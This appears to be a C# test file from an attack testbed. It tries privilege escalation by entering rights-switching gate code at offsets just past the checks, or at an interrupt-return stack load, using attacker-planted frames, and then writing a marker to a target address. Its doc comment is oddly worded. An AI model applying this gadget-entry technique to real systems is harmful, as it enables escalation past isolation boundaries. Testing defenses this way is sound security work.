namespace Testbed.Attacks.D25;

/// <summary>
/// Enters each switch of rights where its own value comes first, so that it compares well, one in each life: toward another
/// component there is still the door. And once more ten bytes earlier, where the return from an interrupt loads its page's address. On each interrupt page lies a frame of the attacker's; where it leads, the mark is stored to
/// what <c>target=</c> names, with the rights that were got.
/// </summary>
static class Doors
{
    const nuint LoadBytes = 10;             // MOV RSP, imm64
    const ulong Entries = 2;

    public static void Run(ulong attempt)
    {
        nuint start = Attempt.Address("gates"u8), end = D09.Gate.End(start);
        ulong sites = D09.Gate.Sites(start, end);
        if (!Attempt.TryBegin(attempt, (sites - Payload.SwitchesOfOwnEntry) * Entries))
            return;
        D09.Gate.LeaveFrames();
        nuint target = Attempt.Address("target"u8);
        nuint entry = D09.Gate.Site(start, end, sites - 1 - attempt / Entries) - D09.Gate.ValueBytes;
        D09.Gate.Enter(attempt % Entries == 0 ? entry : entry - LoadBytes, 0, target);
        Raw.Store(target, Attempt.Mark);        // some switches are those of a call that may be made: it comes back, with own rights
        Attempt.End();
    }
}
